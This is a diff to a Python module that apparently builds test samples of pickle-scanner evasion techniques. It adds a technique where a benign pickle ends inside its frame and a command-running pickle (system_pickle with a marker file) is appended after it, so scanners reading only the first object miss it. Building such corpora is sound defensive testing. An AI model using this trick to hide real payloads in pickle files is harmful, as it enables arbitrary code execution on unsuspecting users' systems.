@@ -7,6 +7,7 @@ import base64
 import marshal
 import os
 import pickle
+import struct
 import zlib
 from pathlib import Path
 
@@ -548,3 +549,15 @@ def _ext_confusion(out: Path, marker: Path) -> None:
 )
 def _no_ext(out: Path, marker: Path) -> None:
     out.write_bytes(system_pickle(marker, version=2))
+
+
+@technique(
+    "stop_inside_frame",
+    "framed.pkl",
+    "a benign pickle STOPs inside its FRAME; the next load on a BytesIO starts at the frame's end",
+    "CPython _pickle framing (Unpickler on BytesIO resumes after the frame); found by fuzzing, issue #11",
+    DANGEROUS,
+)
+def _stop_inside_frame(out: Path, marker: Path) -> None:
+    body = b"}\x94." + b"\xff" * 8  # an empty dict, STOP, then bytes no unpickler reads as opcodes
+    out.write_bytes(b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + system_pickle(marker))
